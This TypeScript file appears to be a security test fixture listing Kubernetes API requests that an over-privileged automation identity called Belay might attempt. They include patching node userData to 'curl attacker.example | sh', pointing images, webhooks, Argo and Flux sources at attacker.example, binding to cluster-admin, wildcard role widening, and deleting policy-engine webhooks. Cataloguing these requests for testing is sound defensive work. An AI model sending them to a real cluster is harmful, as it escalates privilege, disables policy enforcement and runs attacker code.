/** RS6: what somebody with Belay's identity, and with every right of the cluster, would like to change. */
import { found } from './admission-objects.ts';

export interface Attack {
  what: string;
  method: 'PATCH' | 'POST' | 'DELETE' | 'APPLY';
  path: string;
  body?: object;
}

const pathOf = (resource: string, name = found(resource).object.metadata.name, below = ''): string =>
  `${found(resource).path}/${name}${below === '' ? '' : `/${below}`}`;
const patch = (what: string, resource: string, body: object, below = ''): Attack => ({
  what: `${resource}: ${what}`,
  method: 'PATCH',
  path: pathOf(resource, undefined, below),
  body,
});
const create = (what: string, path: string, body: object): Attack => ({ what, method: 'POST', path, body });
const remove = (what: string, path: string): Attack => ({ what, method: 'DELETE', path });

const HOOKS = '/apis/admissionregistration.k8s.io/v1';
const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const inPods = (spec: object): object => ({ spec: { template: { spec } } });
const container = (fields: object): object => inPods({ containers: [{ name: 'web', image: 'registry.example/web:1', ...fields }] });
const WORKLOADS = ['apps/deployments', 'apps/statefulsets', 'apps/daemonsets'];
const POD = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'mine' }, spec: { containers: [{ name: 'mine', image: 'mine' }] } };

const WORKLOAD_ATTACKS = WORKLOADS.flatMap((resource) => [
  patch('mounts a Secret', resource, inPods({ volumes: [{ name: 'all', secret: { secretName: 'database' } }] })),
  patch('changes the image', resource, container({ image: 'attacker.example/web:1' })),
  patch(
    'adds a variable from a Secret',
    resource,
    container({ env: [{ name: 'KEY', valueFrom: { secretKeyRef: { name: 'database', key: 'key' } } }] }),
  ),
  patch('changes the command', resource, container({ command: ['sh', '-c', 'id'] })),
  patch(
    'adds a container',
    resource,
    inPods({
      containers: [
        { name: 'web', image: 'registry.example/web:1' },
        { name: 'more', image: 'mine' },
      ],
    }),
  ),
  patch('adds an init container', resource, inPods({ initContainers: [{ name: 'more', image: 'mine' }] })),
  patch('changes the service account', resource, inPods({ serviceAccountName: 'cluster-admin' })),
  patch('shares the host’s network', resource, inPods({ hostNetwork: true })),
  patch('changes another annotation of its pods', resource, { spec: { template: { metadata: { annotations: { other: 'x' } } } } }),
  patch('changes a label', resource, { metadata: { labels: { app: 'other' } } }),
  patch('takes an owner', resource, { metadata: { finalizers: ['mine.example/stay'] } }),
]);

export const POLICY_ENGINE = 'kyverno-resource';

export const ATTACKS: readonly Attack[] = [
  ...WORKLOAD_ATTACKS,
  patch('scales by the subresource', 'apps/deployments', { spec: { replicas: 0 } }, 'scale'),
  patch('writes the status', 'apps/deployments', { status: { replicas: 7 } }, 'status'),
  {
    what: 'applies a new Deployment',
    method: 'APPLY',
    path: `${found('apps/deployments').path}/mine`,
    body: { ...found('apps/deployments').object, metadata: { name: 'mine' } },
  },
  remove('deletes a Deployment', pathOf('apps/deployments')),
  patch('drops the Pod Security label', '/namespaces', { metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } } }),
  patch('weakens the Pod Security label', '/namespaces', { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }),
  patch('changes another label', '/namespaces', { metadata: { labels: { team: 'other' } } }),
  remove('deletes a namespace', pathOf('/namespaces')),
  patch('edits userData', 'karpenter.k8s.aws/ec2nodeclasses', { spec: { userData: 'curl attacker.example | sh' } }),
  patch('changes the role of nodes', 'karpenter.k8s.aws/ec2nodeclasses', { spec: { role: 'administrator' } }),
  patch('changes requirements', 'karpenter.sh/nodepools', { spec: { template: { spec: { requirements: [] } } } }),
  patch('changes consolidation', 'karpenter.sh/nodepools', { spec: { disruption: { consolidateAfter: 'Never' } } }),
  patch('changes limits', 'karpenter.sh/nodepools', { spec: { limits: { cpu: '1' } } }),
  create('makes a NodeClaim that is no canary', found('karpenter.sh/nodeclaims').path, {
    ...found('karpenter.sh/nodeclaims').object,
    metadata: { name: 'mine' },
  }),
  remove('deletes a NodeClaim that is no canary', pathOf('karpenter.sh/nodeclaims')),
  patch('edits a NodeClaim', 'karpenter.sh/nodeclaims', { spec: { taints: [] } }),
  patch('taints a node', '/nodes', { spec: { taints: [{ key: 'mine', effect: 'NoExecute' }] } }),
  patch('labels a node', '/nodes', { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } }),
  patch('writes a node’s status', '/nodes', { status: { capacity: { cpu: '1' } } }, 'status'),
  remove('deletes a node', pathOf('/nodes')),
  create('creates a pod', found('/pods').path, POD),
  patch('changes the image of a pod', '/pods', { spec: { containers: [{ name: 'web', image: 'registry.example/web:2' }] } }),
  patch('debugs a pod', '/pods', { spec: { ephemeralContainers: [{ name: 'mine', image: 'mine' }] } }, 'ephemeralcontainers'),
  create('runs a program in a pod', `${pathOf('/pods')}/exec?command=id&container=web&stdout=true`, {}),
  create('binds a pod to a node', `${pathOf('/pods')}/binding`, {
    apiVersion: 'v1',
    kind: 'Binding',
    metadata: { name: 'web-0' },
    target: { kind: 'Node', name: 'ip-10-0-1-7' },
  }),
  create('makes a Secret', '/api/v1/namespaces/shop/secrets', { metadata: { name: 'mine' } }),
  create('has a token made', '/api/v1/namespaces/shop/serviceaccounts/default/token', { spec: { audiences: ['x'] } }),
  create('makes a Job', '/apis/batch/v1/namespaces/shop/jobs', {
    metadata: { name: 'mine' },
    spec: { template: { spec: { ...POD.spec, restartPolicy: 'Never' } } },
  }),
  create('makes a ServiceAccount', '/api/v1/namespaces/shop/serviceaccounts', { metadata: { name: 'mine' } }),
  create('binds itself to a role', `${RBAC}/clusterrolebindings`, {
    metadata: { name: 'mine' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'belay' }],
  }),
  {
    what: 'widens its own role',
    method: 'PATCH',
    path: `${RBAC}/clusterroles/belay`,
    body: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
  },
  { what: 'rebinds its own role', method: 'PATCH', path: `${RBAC}/clusterrolebindings/belay`, body: { subjects: [] } },
  remove('deletes a policy engine’s mutating webhook', `${HOOKS}/mutatingwebhookconfigurations/${POLICY_ENGINE}`),
  remove('deletes a policy engine’s validating webhook', `${HOOKS}/validatingwebhookconfigurations/${POLICY_ENGINE}`),
  {
    what: 'marks a policy engine’s webhook as Istio’s',
    method: 'PATCH',
    path: `${HOOKS}/mutatingwebhookconfigurations/${POLICY_ENGINE}`,
    body: { metadata: { labels: { 'istio.io/rev': 'x' } } },
  },
  {
    what: 'empties a policy engine’s webhook',
    method: 'PATCH',
    path: `${HOOKS}/mutatingwebhookconfigurations/${POLICY_ENGINE}`,
    body: { webhooks: [] },
  },
  {
    what: 'empties a policy engine’s validating webhook',
    method: 'PATCH',
    path: `${HOOKS}/validatingwebhookconfigurations/${POLICY_ENGINE}`,
    body: { webhooks: [] },
  },
  remove('deletes the webhook of a tag', pathOf('admissionregistration.k8s.io/mutatingwebhookconfigurations')),
  remove('deletes Istio’s validator', pathOf('admissionregistration.k8s.io/validatingwebhookconfigurations')),
  ...['mutatingwebhookconfigurations', 'validatingwebhookconfigurations'].flatMap((plural) => {
    const resource = `admissionregistration.k8s.io/${plural}`;
    const [hook] = Object(found(resource).object)['webhooks'];
    const service = { ...hook.clientConfig.service, name: 'mine', namespace: 'shop' };
    return [
      patch('has the webhook call another service', resource, { webhooks: [{ ...hook, clientConfig: { service } }] }),
      patch('has the webhook call a URL', resource, { webhooks: [{ ...hook, clientConfig: { url: 'https://attacker.example' } }] }),
      patch('widens what the webhook sees', resource, {
        webhooks: [{ ...hook, rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }] }],
      }),
      patch('adds a webhook', resource, { webhooks: [hook, { ...hook, name: 'more.example.com' }] }),
      create('makes a webhook', found(resource).path, {
        ...found(resource).object,
        metadata: { name: 'mine', labels: { 'istio.io/rev': 'x' } },
      }),
    ];
  }),
  patch('changes the ports of a tag’s Service', '/services', { spec: { ports: [{ port: 443, targetPort: 1 }] } }),
  patch('makes a tag’s Service an external name', '/services', { spec: { type: 'ExternalName', externalName: 'attacker.example' } }),
  {
    what: 'changes another Service',
    method: 'PATCH',
    path: `${found('/services').path}/shop`,
    body: { spec: { selector: { 'istio.io/rev': 'x' } } },
  },
  patch('changes whom an autoscaler scales', 'autoscaling/horizontalpodautoscalers', { spec: { maxReplicas: 1 } }),
  patch('changes the class of a Gateway', 'gateway.networking.k8s.io/gateways', { spec: { gatewayClassName: 'mine' } }),
  patch('changes the template of a Rollout', 'argoproj.io/rollouts', { spec: { template: { spec: { serviceAccountName: 'x' } } } }),
  patch('has an Application deliver another repository', 'argoproj.io/applications', {
    spec: { source: { repoURL: 'https://attacker.example' } },
  }),
  patch('moves an Application to another project', 'argoproj.io/applications', { spec: { project: 'default' } }),
  patch('syncs manifests of its own', 'argoproj.io/applications', { operation: { sync: { manifests: ['{}'], prune: false } } }),
  patch('prunes', 'argoproj.io/applications', { operation: { sync: { revision: '1.26.0', prune: true } } }),
  patch('has a HelmRelease deliver another chart', 'helm.toolkit.fluxcd.io/helmreleases', { spec: { chart: { spec: { chart: 'mine' } } } }),
  patch('has a HelmRelease run as somebody else', 'helm.toolkit.fluxcd.io/helmreleases', { spec: { serviceAccountName: null } }),
  patch('has an OCIRepository come from elsewhere', 'source.toolkit.fluxcd.io/ocirepositories', {
    spec: { url: 'oci://attacker.example/karpenter' },
  }),
  patch('pretends another version of a CRD', 'karpenter.sh/provisioners', { spec: { providerRef: { name: 'mine' } } }),
];
